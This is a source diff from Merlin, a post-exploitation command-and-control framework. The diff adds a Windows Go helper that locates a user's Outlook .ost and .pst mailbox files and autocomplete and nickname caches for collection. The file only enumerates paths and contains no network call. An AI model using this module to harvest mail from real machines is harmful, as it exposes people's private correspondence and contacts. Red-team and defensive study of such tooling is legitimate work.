@@ -0,0 +1,50 @@
+//go:build windows
+// +build windows
+
+// Merlin is a post-exploitation command and control framework.
+// This file is part of Merlin.
+// Copyright (C) 2022  Russel Van Tuyl
+
+// Merlin is free software: you can redistribute it and/or modify
+// it under the terms of the GNU General Public License as published by
+// the Free Software Foundation, either version 3 of the License, or
+// any later version.
+
+// Merlin is distributed in the hope that it will be useful,
+// but WITHOUT ANY WARRANTY; without even the implied warranty of
+// MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+// GNU General Public License for more details.
+
+// You should have received a copy of the GNU General Public License
+// along with Merlin.  If not, see <http://www.gnu.org/licenses/>.
+
+package commands
+
+import (
+	// Standard
+	"path/filepath"
+)
+
+// mailStores returns the Outlook data files and the autocomplete and nickname caches in the user's profile
+func mailStores(home string) (stores []mailStore) {
+	local := filepath.Join(home, "AppData", "Local", "Microsoft", "Outlook")
+	patterns := map[string][]string{
+		"ost":          {filepath.Join(local, "*.ost")},
+		"pst":          {filepath.Join(local, "*.pst"), filepath.Join(home, "Documents", "Outlook Files", "*.pst")},
+		"autocomplete": {filepath.Join(local, "RoamCache", "Stream_Autocomplete_*.dat"), filepath.Join(home, "AppData", "Roaming", "Microsoft", "Outlook", "*.nk2")},
+	}
+	for _, kind := range []string{"ost", "pst", "autocomplete"} {
+		for _, pattern := range patterns[kind] {
+			files, _ := filepath.Glob(pattern)
+			for _, path := range files {
+				stores = append(stores, mailStore{kind: kind, path: path})
+			}
+		}
+	}
+	return
+}
+
+// systemMailboxes returns nothing because Windows does not have a local mail spool
+func systemMailboxes() []mailStore {
+	return nil
+}